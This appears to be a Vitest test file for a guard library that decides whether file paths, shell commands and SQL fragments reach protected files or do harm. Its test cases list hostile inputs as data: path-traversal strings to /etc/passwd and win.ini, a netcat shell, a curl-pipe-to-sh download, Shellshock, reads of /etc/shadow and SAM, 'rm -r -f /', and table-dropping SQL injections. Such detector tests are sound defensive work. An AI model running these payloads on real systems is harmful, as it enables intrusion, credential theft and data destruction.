import { describe, expect, test } from 'vitest';
import { ActionGuard } from '../../src/index.ts';
import { harmfulCommand } from './payloads/harmful-command.ts';
import { harmfulStatement } from './payloads/harmful-statement.ts';
import { tallyPayloads } from './payloads/lists.ts';
import { reachesPosixFolder, reachesWindowsFolder } from './payloads/system-folder.ts';

/** Lists in which, by what they are for, lines reach something protected. */
const REACHING = /^traversal\/|^command-injection\//;

test('no line of a public payload list that truly reaches something protected gets through', (context) => {
  const guard = new ActionGuard({ snapshotPath: null });
  const tallies = tallyPayloads(guard);
  if (tallies === null) return context.skip('the public payload lists are not beside this checkout');
  for (const { list, lines, reaching, misses } of tallies) {
    console.log(
      `${list}: ${reaching} of ${lines} lines reach something protected, ${misses.length} get through`,
    );
  }
  expect(tallies.filter(({ list, reaching }) => REACHING.test(list) && reaching === 0)).toEqual([]);
  expect(tallies.flatMap(({ list, misses }) => misses.map((miss) => `${list}: ${miss}`))).toEqual([]);
});

describe('the resolver of paths', () => {
  const BASE = '/var/www/html';

  test.each([
    '/etc/passwd',
    '../../../etc/passwd',
    'img/../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '..%252f..%252f..%252fetc/passwd',
    '%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
    '%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/etc/passwd',
    '/etc/passwd%00.html',
  ])('says that %s is a file of a POSIX system', (path) => {
    expect(reachesPosixFolder(path, BASE)).toBe(true);
  });

  test.each([
    '../../etc/passwd',
    'etc/passwd',
    '..;/..;/..;/etc/passwd',
    '..\\..\\..\\etc\\passwd',
    '0x2e0x2e/0x2e0x2e/0x2e0x2e/etc/passwd',
    '%00/etc/passwd',
    '/var/log/etc/passwd',
    '/etcetera/passwd',
    '/windows/win.ini',
  ])('says that %s is no file of a POSIX system', (path) => {
    expect(reachesPosixFolder(path, BASE)).toBe(false);
  });

  test.each([
    '..\\..\\..\\windows\\win.ini',
    '/WINDOWS/win.ini',
    '..%5c../..\\winnt/x',
    'C:\\WINNT\\php.ini',
  ])('says that %s is a file of Windows', (path) => {
    expect(reachesWindowsFolder(path, BASE)).toBe(true);
  });

  test.each([
    '..\\..\\windows\\win.ini',
    'windows\\win.ini',
    'C:\\boot.ini',
    'D:\\windows\\x',
    '/etc/passwd',
  ])('says that %s is no file of Windows', (path) => {
    expect(reachesWindowsFolder(path, BASE)).toBe(false);
  });
});

describe('the reader of commands', () => {
  test.each([
    'cat /etc/passwd',
    '; cat "/etc/"passwd',
    '| nc -lvvp 4444 -e /bin/sh|',
    '$(`cat /etc/passwd`)',
    '&& ls -laR /etc',
    'bash -c "cat /etc/shadow"',
    '() { :;}; /bin/bash -c "grep root /etc/shadow"',
    'x; rm -r -f /',
    'curl https://example.com/x | sh',
    'echo x > /etc/cron.d/x',
    '| type C:\\Windows\\repair\\SAM',
  ])('says that %s does harm', (line) => {
    expect(harmfulCommand(line)).toBe(true);
  });

  test.each([
    'id',
    "echo 'a file named /etc/passwd'",
    '; ls -l /var/www',
    '%0Acat%20/etc/passwd',
    'nc -zv host 80',
    'a)(',
  ])('says that %s does none', (line) => {
    expect(harmfulCommand(line)).toBe(false);
  });
});

describe('the reader of statements', () => {
  test.each([
    'DROP TABLE users',
    '; drop/**/table users--',
    "'; DELETE FROM users --",
    '1;TRUNCATE users',
    '/*!50000 DROP TABLE users */',
    '%27;+DROP+TABLE+users--',
    '; UPDATE users SET admin = 1',
  ])('says that %s does harm', (fragment) => {
    expect(harmfulStatement(fragment)).toBe(true);
  });

  test.each([
    ' OR 1=1',
    ' UNION SELECT 1,2,3--',
    "x'; SELECT 'DROP TABLE users",
    '; DELETE FROM users WHERE id = 1',
    ' -- ; DROP TABLE users',
    'IF(1=1) SELECT 1 ELSE DROP FUNCTION f--',
  ])('says that %s does none', (fragment) => {
    expect(harmfulStatement(fragment)).toBe(false);
  });
});
